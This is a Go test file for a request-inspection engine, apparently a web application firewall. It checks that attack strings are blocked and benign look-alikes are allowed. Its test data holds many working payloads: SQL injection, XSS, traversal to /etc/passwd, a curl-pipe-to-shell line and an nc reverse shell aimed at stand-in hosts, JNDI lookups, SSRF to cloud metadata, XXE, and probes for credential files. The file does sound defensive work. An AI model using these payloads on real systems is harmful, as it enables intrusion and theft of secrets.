package inspect

import (
	"net/http"
	"net/url"
	"strings"
	"testing"
)

// inspectValue inspects v as the query parameter q.
func inspectValue(t *testing.T, e *Engine, v string) Verdict {
	t.Helper()
	return e.Inspect(&Request{Method: "GET", URI: "/search?q=" + url.QueryEscape(v), Header: http.Header{"Host": {"app.example.com"}}})
}

func hasClass(v Verdict, c Class) bool {
	for _, f := range v.Findings {
		if f.Class == c {
			return true
		}
	}
	return false
}

// TestDetectors checks each detector on attacks (blocked, with the class)
// and on near misses (allowed).
func TestDetectors(t *testing.T) {
	e, err := New(Config{})
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		class   Class
		attacks []string
		benign  []string
	}{
		{SQLi,
			[]string{"1' or '1'='1", "1 UNION SELECT username,password FROM users--", "1;DROP TABLE users", "admin'--",
				"1 AND SLEEP(5)", "'; WAITFOR DELAY '0:0:5'--", "1 and extractvalue(1,concat(0x7e,version()))", "1/*!50000union*/select 1",
				"x' AND 1=(SELECT COUNT(*) FROM information_schema.tables)--", "1 or 1=1"},
			[]string{"O'Brien", "select a plan", "Union Street 5", "drop-down menu", "It's 5 o'clock; time to go", "Rock 'n' roll",
				"\"Union is strength\" — that's what Grandad said", "order by price", "I'd like 1 or 2 of them"}},
		{XSS,
			[]string{"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(document.cookie)",
				"<svg/onload=alert(1)>", "<iframe srcdoc=\"<script>alert(1)</script>\">", "\" onmouseover=\"alert(1)",
				"<math><maction xlink:href=javascript:alert(1)>x", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
				"<a href=\"jav&#x09;ascript:alert(1)\">x</a>"},
			[]string{"a < b and c > d", "JavaScript: The Good Parts", "3 <= 4", "I love <3 cats", "online", "see https://example.com/a?b=c"}},
		{Traversal,
			[]string{"../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "%252e%252e%252fetc%252fpasswd", "..%c0%af..%c0%afetc/passwd",
				"..\\..\\windows\\win.ini", "/proc/self/environ", "php://filter/convert.base64-encode/resource=index.php",
				"file:///etc/shadow", "....//....//etc/passwd", "..%u2215..%u2215etc%u2215passwd"},
			[]string{"1.2.3", "see chapter 2...", "a/b/c", "v1..v2", "etc.", "photos/2024/summer.jpg"}},
		{CmdI,
			[]string{"; cat /etc/passwd", "| whoami", "$(id)", "`uname -a`", "127.0.0.1 && curl http://evil.example/x.sh | sh",
				";${IFS}cat${IFS}/etc/passwd", "; c'a't /et'c'/pa'ss'wd", "| nc -e /bin/sh 10.0.0.1 4444", "& cmd /c dir",
				"; powershell -enc SQBFAFgA"},
			[]string{"Tom & Jerry", "cats | dogs", "Thinking of you; get well soon.", "time for tea", "R&D", "$5 off"}},
		{SSRF,
			[]string{"http://169.254.169.254/latest/meta-data/", "http://metadata.google.internal/computeMetadata/v1/",
				"http://127.0.0.1:8080/admin", "http://0x7f000001/", "http://2130706433/", "http://[::ffff:127.0.0.1]/",
				"http://10.0.0.5/internal", "gopher://127.0.0.1:6379/_FLUSHALL", "http://localhost/", "dict://127.0.0.1:11211/stat",
				"jar:http://evil.example/x.jar!/", "mysql:root@127.0.0.1"},
			[]string{"https://example.com/image.png", "mailto:ana@example.com", "tel:+15555555555",
				"mysql: Pooling connections", "Redis: caching sessions", "LDAP: an introduction"}},
		{JNDI,
			[]string{"${jndi:ldap://evil.example/a}", "${${lower:j}ndi:ldap://x/a}", "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
				"${jndi:${lower:l}${lower:d}a${lower:p}://x}", "${env:AWS_SECRET_ACCESS_KEY}"},
			[]string{"${name}", "costs $5 {approx}", "{{name}}"}},
		{SSTI,
			[]string{"{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}",
				"<#assign ex=\"freemarker.template.utility.Execute\"?new()>"},
			[]string{"{{name}}", "7*7=49", "{x}"}},
		{NoSQLi,
			[]string{`{"$gt": ""}`, "'; return true; var x='", "' || 'a'=='a", "[$ne]=1", "db.users.find()"},
			[]string{"$100", "price: $gt in the store", "return policy"}},
		{PHP,
			[]string{"<?php system($_GET['c']); ?>", "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}", "system('id')", "$_SERVER['HTTP_HOST']",
				"base64_decode('cGhwaW5mbygpOw==')"},
			[]string{"the system (is) down", "a:b", "what? no"}},
		{Java,
			[]string{"java.lang.Runtime.getRuntime().exec('id')", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
				"class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", "org.apache.commons.collections.functors.InvokerTransformer"},
			[]string{"java script", "coffee from java"}},
		{CodeI,
			[]string{"require('child_process').exec('id')", "process.mainModule.require('fs')", "_$$ND_FUNC$$_function(){}", "@{[system 'id']}"},
			[]string{"require a login", "the process is slow"}},
		{CRLF,
			[]string{"x\r\nSet-Cookie: a=b", "x%0d%0aLocation: http://evil.example"},
			[]string{"line one"}},
	}
	for _, tt := range tests {
		t.Run(string(tt.class), func(t *testing.T) {
			for _, a := range tt.attacks {
				if v := inspectValue(t, e, a); v.Action != Block || !hasClass(v, tt.class) {
					t.Errorf("Inspect(q=%q) = %v %+v, want block as %s", a, v.Action, v.Findings, tt.class)
				}
			}
			for _, b := range tt.benign {
				if v := inspectValue(t, e, b); v.Action == Block {
					t.Errorf("Inspect(q=%q) = block %+v, want allow", b, v.Findings)
				}
			}
		})
	}
}

// TestKeys checks the detectors of keys: NoSQL operators and prototype
// pollution in qs brackets and JSON members.
func TestKeys(t *testing.T) {
	e, _ := New(Config{})
	for _, tt := range []struct {
		uri, ct, body string
		class         Class
	}{
		{"/login?user[$ne]=x&pass[$ne]=y", "", "", NoSQLi},
		{"/login", "application/json", `{"user":{"$gt":""},"pass":{"$gt":""}}`, NoSQLi},
		{"/login", "application/x-www-form-urlencoded", "user%5B%24regex%5D=.*", NoSQLi},
		{"/p?__proto__[admin]=1", "", "", ProtoPollution},
		{"/p?constructor[prototype][admin]=1", "", "", ProtoPollution},
		{"/p", "application/json", `{"a":{"__proto__":{"admin":true}}}`, ProtoPollution},
		{"/p?user__password__startswith=a", "", "", CodeI},
	} {
		h := http.Header{}
		if tt.ct != "" {
			h.Set("Content-Type", tt.ct)
		}
		v := e.Inspect(&Request{Method: "POST", URI: tt.uri, Header: h, Body: []byte(tt.body)})
		if v.Action != Block || !hasClass(v, tt.class) {
			t.Errorf("Inspect(%s %s) = %v %+v, want block as %s", tt.uri, tt.body, v.Action, v.Findings, tt.class)
		}
	}
	for _, ok := range []string{"/p?a[b]=1&a[c]=2", "/p?sort[price]=asc", "/p?proto=http"} {
		if v := e.Inspect(&Request{Method: "GET", URI: ok, Header: http.Header{}}); v.Action != Allow {
			t.Errorf("Inspect(%s) = %v %+v, want allow", ok, v.Action, v.Findings)
		}
	}
}

// TestProbes checks sensitive files, scanners and XXE: all must block.
func TestProbes(t *testing.T) {
	e, _ := New(Config{})
	for _, p := range []string{"/.env", "/.env.production", "/.git/config", "/.svn/entries", "/.hg/store", "/.aws/credentials",
		"/.ssh/id_rsa", "/id_rsa", "/server.key", "/cert.pem", "/backup.sql", "/db.sql.gz", "/index.php.bak", "/index.php~",
		"/.index.php.swp", "/site.tar.gz", "/www.zip", "/wp-config.php", "/wp-config.php.bak", "/phpinfo.php", "/actuator/env",
		"/.DS_Store", "/web.config", "/docker-compose.yml", "/.npmrc", "/config.json", "/.htpasswd", "/app/.git/HEAD",
		"/server-status", "/WEB-INF/web.xml", "/.well-known/../.env", "/%2e%65nv"} {
		v := e.Inspect(&Request{Method: "GET", URI: p, Header: http.Header{}})
		if v.Action != Block {
			t.Errorf("Inspect(GET %s) = %v %+v, want block", p, v.Action, v.Findings)
		}
	}
	for _, p := range []string{"/", "/.well-known/acme-challenge/abc", "/api/config", "/static/app.js", "/download/presentation.key",
		"/docs/backup-guide", "/assets/logo.png", "/jquery.history.min.js", "/files/report.zip", "/api/v1/users/42/env"} {
		if v := e.Inspect(&Request{Method: "GET", URI: p, Header: http.Header{}}); v.Action == Block {
			t.Errorf("Inspect(GET %s) = block %+v, want allow", p, v.Findings)
		}
	}
	for _, ua := range []string{"sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)", "Nuclei - Open-source project",
		"masscan/1.3", "Mozilla/5.0 zgrab/0.x", "WPScan v3.8", "gobuster/3.6", "Fuzz Faster U Fool v2.1.0", "DirBuster-1.0-RC1", "Nessus SOAP",
		"OpenVAS-VT", "w3af.org", "Wapiti-2.3.0", "Arachni/v1.5"} {
		v := e.Inspect(&Request{Method: "GET", URI: "/", Header: http.Header{"User-Agent": {ua}}})
		if v.Action != Block || !hasClass(v, Scanner) {
			t.Errorf("User-Agent %q = %v %+v, want block as scanner", ua, v.Action, v.Findings)
		}
	}
	for _, ua := range []string{"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", "curl/8.5.0", "urlgrabber/3.10 yum/3.4.3",
		"mozilla/5.0 ecairn-grabber/1.0 (+http://ecairn.com/grabber)", "okhttp/4.12.0"} {
		if v := e.Inspect(&Request{Method: "GET", URI: "/", Header: http.Header{"User-Agent": {ua}}}); v.Action != Allow {
			t.Errorf("User-Agent %q = %v %+v, want allow", ua, v.Action, v.Findings)
		}
	}
	xxe := `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`
	v := e.Inspect(&Request{Method: "POST", URI: "/api", Header: http.Header{"Content-Type": {"application/xml"}}, Body: []byte(xxe)})
	if v.Action != Block || !hasClass(v, XXE) {
		t.Errorf("XXE body = %v %+v, want block as xxe", v.Action, v.Findings)
	}
}

// TestWhere checks that findings name their input and redact secrets.
func TestWhere(t *testing.T) {
	e, _ := New(Config{})
	body := `{"user":{"email":"x' OR '1'='1"},"password":"' OR 1=1--","items":[{"q":"<script>alert(1)</script>"}]}`
	v := e.Inspect(&Request{Method: "POST", URI: "/api/login", Header: http.Header{"Content-Type": {"application/json"},
		"Cookie": {"sid=1' or '1'='1"}}, Body: []byte(body)})
	got := map[string]string{}
	for _, f := range v.Findings {
		got[f.Where] = f.Fragment
	}
	for where, frag := range map[string]string{
		"json:$.user.email": "or '1'=", "json:$.password": "[redacted]", "json:$.items[0].q": "", "cookie:sid": "[redacted]",
	} {
		g, ok := got[where]
		if !ok {
			t.Errorf("no finding at %s; findings %+v", where, v.Findings)
			continue
		}
		if frag != "" && !strings.Contains(g, frag) {
			t.Errorf("finding at %s quotes %q, want %q", where, g, frag)
		}
	}
	long := strings.Repeat("a", 200) + "' or '1'='1"
	v = inspectValue(t, e, long)
	for _, f := range v.Findings {
		if len(f.Fragment) > fragmentLen+4 {
			t.Errorf("fragment of %d bytes, want at most about %d", len(f.Fragment), fragmentLen)
		}
	}
}
